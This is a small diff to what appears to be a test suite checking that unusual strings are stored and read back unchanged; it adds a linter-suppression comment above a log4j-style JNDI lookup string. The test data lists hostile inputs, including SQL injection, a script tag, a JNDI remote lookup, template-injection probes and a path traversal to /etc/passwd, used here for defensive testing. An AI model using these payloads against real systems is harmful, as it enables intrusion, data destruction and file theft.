@@ -400,6 +400,7 @@ describe("odd but valid text is stored safely and reads back byte for byte", () 
       "'; DROP TABLE records; --",
       "' OR '1'='1",
       "<script>alert(1)</script>",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup string is the point
       "${jndi:ldap://x/a}",
       "{{7*7}} <%= 7*7 %>",
       "../../../../etc/passwd",
